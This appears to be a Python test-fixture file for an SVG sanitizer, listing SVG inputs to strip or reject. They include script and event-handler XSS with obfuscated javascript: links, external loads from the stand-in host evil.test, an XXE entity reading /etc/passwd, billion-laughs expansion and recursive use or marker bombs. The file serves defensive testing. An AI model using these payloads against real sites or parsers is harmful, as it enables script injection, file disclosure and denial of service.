"""SVG that tries to run a script, to load something, to leave the picture, or to exhaust the browser.

As a part of a page, each entry would call `hacked()` or ask `evil.test` in some browser, or make it slow.
"""

from __future__ import annotations

_OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"'
_URL = "http://evil.test/x"


def _in(content: str, root: str = "") -> str:
    return f"{_OPEN}{root}><circle r='4'/>{content}</svg>"


REMOVED = {
    "script": _in("<script>hacked()</script>"),
    "script with a type": _in('<script type="text/javascript">hacked()</script>'),
    "script in CDATA": _in("<script><![CDATA[hacked()]]></script>"),
    "script with href": _in(f'<script href="{_URL}"/>'),
    "script with xlink:href": _in(f'<script xlink:href="{_URL}"/>'),
    "script of HTML": _in('<script xmlns="http://www.w3.org/1999/xhtml">hacked()</script>'),
    "script with a prefix": _in('<h:script xmlns:h="http://www.w3.org/1999/xhtml">hacked()</h:script>'),
    "script in another case": _in("<SCRIPT>hacked()</SCRIPT>"),
    "script in a group in defs": _in("<defs><g><script>hacked()</script></g></defs>"),
    "onload of the root": _in("", ' onload="hacked()"'),
    "onclick": _in('<rect width="9" height="9" onclick="hacked()"/>'),
    "onmouseover with references": _in('<rect width="9" height="9" onmouseover="&#104;acked()"/>'),
    "onfocus with autofocus": _in('<g tabindex="1" autofocus="" onfocus="hacked()"/>'),
    "onbegin of an animation": _in('<animate attributeName="x" dur="1s" onbegin="hacked()"/>'),
    "onerror of an image": _in('<image href="x:" onerror="hacked()"/>'),
    "link": _in(f'<a href="{_URL}"><text y="5">x</text></a>'),
    "link with javascript": _in('<a href="javascript:hacked()"><text y="5">x</text></a>'),
    "link with xlink and javascript": _in('<a xlink:href="javascript:hacked()"><text y="5">x</text></a>'),
    "link with references": _in('<a href="&#106;&#x61;vascript&#58;hacked()"><text y="5">x</text></a>'),
    "link with a tab": _in('<a href="java&#9;script:hacked()"><text y="5">x</text></a>'),
    "link with case and space": _in('<a href=" JaVaScRiPt:hacked()"><text y="5">x</text></a>'),
    "link to data": _in('<a href="data:text/html,%3Cscript%3Ehacked()%3C/script%3E"><text y="5">x</text></a>'),
    "set of an address": _in('<a><set attributeName="href" to="javascript:hacked()"/><text y="5">x</text></a>'),
    "animation of an address": _in('<a><animate attributeName="xlink:href" values="javascript:hacked()"/></a>'),
    "animation of an event": _in('<rect><set attributeName="onmouseover" to="hacked()"/></rect>'),
    "image": _in(f'<image href="{_URL}" width="9" height="9"/>'),
    "image of data with a script": _in('<image href="data:image/svg+xml,%3Csvg onload=%22hacked()%22/%3E"/>'),
    "filter with an image": _in(f'<filter id="f"><feImage href="{_URL}"/></filter><rect filter="url(#f)"/>'),
    "use of another document": _in(f'<use href="{_URL}#a"/>'),
    "use of data": _in('<use href="data:image/svg+xml,%3Csvg id=%22a%22 onload=%22hacked()%22/%3E#a"/>'),
    "use with xlink": _in(f'<use xlink:href="{_URL}#a"/>'),
    "use that says both": _in(f'<use href="#a" xlink:href="{_URL}#a"/>'),
    "gradient of another document": _in(f'<linearGradient id="g" href="{_URL}#g"/>'),
    "foreign content": _in(
        '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="hacked()"/></foreignObject>'
    ),
    "foreign frame": _in(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{_URL}"/></foreignObject>'),
    "frame with a document": _in(
        '<iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>hacked()&lt;/script>"/>'
    ),
    "object": _in(f'<object xmlns="http://www.w3.org/1999/xhtml" data="{_URL}"/>'),
    "embed": _in(f'<embed xmlns="http://www.w3.org/1999/xhtml" src="{_URL}"/>'),
    "form": _in(f'<form xmlns="http://www.w3.org/1999/xhtml" action="{_URL}"><input/></form>'),
    "refresh": _in(f'<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={_URL}"/>'),
    "base": _in(f'<base xmlns="http://www.w3.org/1999/xhtml" href="{_URL}"/>'),
    "style with an import": _in(f'<style>@import "{_URL}";</style>'),
    "style with a font": _in(
        f"<style>@font-face {{ font-family: f; src: url({_URL}) }} text {{ font-family: f }}</style>"
    ),
    "style with a background": _in(f"<style>svg {{ background: url({_URL}) }}</style>"),
    "attribute with an address": _in(f'<rect width="9" height="9" fill="url({_URL})"/>'),
    "attribute with a quoted address": _in(f"<rect width='9' height='9' fill='url(\"{_URL}#a\")'/>"),
    "attribute with an escape": _in(f'<rect width="9" height="9" fill="\\75rl({_URL})"/>'),
    "attribute with two paints": _in(f'<rect width="9" height="9" fill="url(#a) url({_URL})"/>'),
    "mask": _in(f'<rect width="9" height="9" mask="url({_URL}#m)"/>'),
    "cursor": _in(f'<rect width="9" height="9" cursor="url({_URL}), auto"/>'),
    "declaration with an address": _in(f'<rect width="9" height="9" style="fill: url({_URL})"/>'),
    "declaration with a comment": _in(f'<rect width="9" height="9" style="fill: ur/**/l({_URL})"/>'),
    "declaration with an escape": _in(f'<rect width="9" height="9" style="fill: u\\72l({_URL})"/>'),
    "declaration with an expression": _in('<rect style="width: expression(hacked())"/>'),
    "declaration of a binding": _in(f'<rect style="-moz-binding: url({_URL}#x); behavior: url({_URL})"/>'),
    "declaration with image-set": _in(f"<rect style='background: image-set(\"{_URL}\" 1x)'/>"),
    "declaration with a variable": _in(f'<rect style="--a: url({_URL}); fill: var(--a)"/>'),
    "handler element": _in('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">hacked()</handler>'),
    "processing instruction": f'<?xml-stylesheet href="{_URL}"?>' + _in(""),
    "namespace in an attribute": _in('<g xmlns:e="http://evil.test/" e:onload="hacked()"/>'),
    "XML base": _in('<g xml:base="http://evil.test/"><use href="x#a"/></g>'),
    "address of a part": _in(f'<marker id="m"/><path d="M0 0L9 9" marker-end="url({_URL}#m)"/>'),
    "text that ends the element of the data": _in("<text>&lt;/script&gt;&lt;script&gt;hacked()&lt;/script&gt;</text>"),
    "title that is markup": _in("<title>&lt;img src=x onerror=hacked()&gt;</title>"),
    "name that ends an attribute": _in("<rect id='\"&gt;&lt;script&gt;hacked()&lt;/script&gt;'/>"),
    "class that ends an attribute": _in("<rect class='\" onload=\"hacked()'/>"),
    "nested picture with an event": _in('<svg onload="hacked()"><g onclick="hacked()"/></svg>'),
}
"""What draws is kept, the rest is removed."""

_LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
_USES = "".join(f'<g id="u{i}">{f"<use href=%s#u{i - 1}%s/>" % (chr(34), chr(34)) * 10}</g>' for i in range(1, 10))
_MARKERS = "".join(
    f'<marker id="m{i}"><path d="{"M0 0L1 1" * 50}" marker-mid="url(#m{i - 1})"/></marker>' for i in range(1, 5)
)

REFUSED = {
    "entities that grow": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{_LAUGHS}]>' + _in("<text>&l9;</text>"),
    "entity of a file": '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + _in("<text>&x;</text>"),
    "entity of a host": f'<!DOCTYPE svg [<!ENTITY % x SYSTEM "{_URL}"> %x;]>' + _in(""),
    "document type of a host": f'<!DOCTYPE svg SYSTEM "{_URL}">' + _in(""),
    "attribute default": '<!DOCTYPE svg [<!ATTLIST circle onclick CDATA "hacked()">]>' + _in(""),
    "entity without a declaration": _in("<text>&x;</text>"),
    "uses of uses": _in(f'<g id="u0"><circle r="1"/></g>{_USES}<use href="#u9"/>'),
    "use of itself": _in('<g id="a"><use href="#a"/></g>'),
    "markers with markers": _in(
        f'<marker id="m0"><circle r="1"/></marker>{_MARKERS}<path d="M0 0" marker-end="url(#m4)"/>'
    ),
    "many uses of many": _in('<g id="a">' + "<g/>" * 9000 + "</g>" + '<use href="#a"/>' * 9000),
    "large marker at many corners": _in(
        '<marker id="m">' + "<g/>" * 9000 + '</marker><path marker-mid="url(#m)" d="' + "L1 1" * 20000 + '"/>'
    ),
    "too deep": _in("<g>" * 5000 + "</g>" * 5000),
    "too many elements": _in("<g/>" * 30000),
    "too long": _in("<text>" + "x" * 600_000 + "</text>"),
    "too large": '<svg viewBox="0 0 99999 99999"/>',
    "HTML": "<html><body onload='hacked()'/></html>",
    "HTML that is no XML": "<svg viewBox='0 0 9 9'><img src=x onerror=hacked()></svg>",
    "SVG of another namespace": '<svg xmlns="http://evil.test/" viewBox="0 0 9 9"><script>hacked()</script></svg>',
    "two roots": _in("") + "<script>hacked()</script>",
    "UTF-7": "+ADw-script+AD4-hacked()+ADw-/script+AD4-",
    "no size": "<svg><script>hacked()</script></svg>",
    "a lone surrogate": _in("<text>\udc80</text>"),
    "nothing": "",
}
"""There is no picture."""
